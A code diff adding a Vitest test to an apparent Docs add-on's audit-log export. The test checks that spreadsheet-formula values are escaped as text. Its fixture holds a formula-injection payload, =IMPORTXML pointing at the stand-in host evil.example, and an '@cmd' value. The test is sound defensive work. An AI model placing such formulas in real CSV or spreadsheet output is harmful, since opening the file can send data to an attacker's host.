@@ -2,6 +2,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../shared/src/csv';
+import { writeStoredJson } from '../../apps-script/src/server/stored-json';
 import { draftFromBrief } from '../../docs-addon/src/server/draft';
 import { approveMark, auditLog, readMarks } from '../../docs-addon/src/server/marks';
 import type { FakeParagraph } from '../../preview/src/apps-script/fake-document';
@@ -72,6 +73,15 @@ describe('approving AI text', () => {
     expect(rows.value[0]).toEqual(['Approved at', 'Approved by', 'Piece', 'Channel', 'Template', 'Template version', 'Provider', 'Model', 'Brand fit', 'Findings']);
     expect(rows.value.slice(1).map((r) => r[2])).toEqual(['Article', 'Subject lines']);
     expect(rows.value[2]![3]).toBe('email-subject');
+  });
+
+  it('writes audit cells that look like formulas as text', () => {
+    const { env, marks } = drafted();
+    const { approved } = approveMark(marks[0]!.id);
+    writeStoredJson(env.properties.document as never, 'onbrand.audit', [{ ...approved!, approvedBy: '=IMPORTXML("http://evil.example","//a")', label: '@cmd' }]);
+    const rows = parseCsv(auditLog().csv);
+    if (!rows.ok) throw new Error('the audit CSV is not CSV');
+    expect(rows.value[1]!.slice(1, 3)).toEqual(['\'=IMPORTXML("http://evil.example","//a")', "'@cmd"]);
   });
 
   it('refuses to approve what is not waiting, changing nothing', () => {
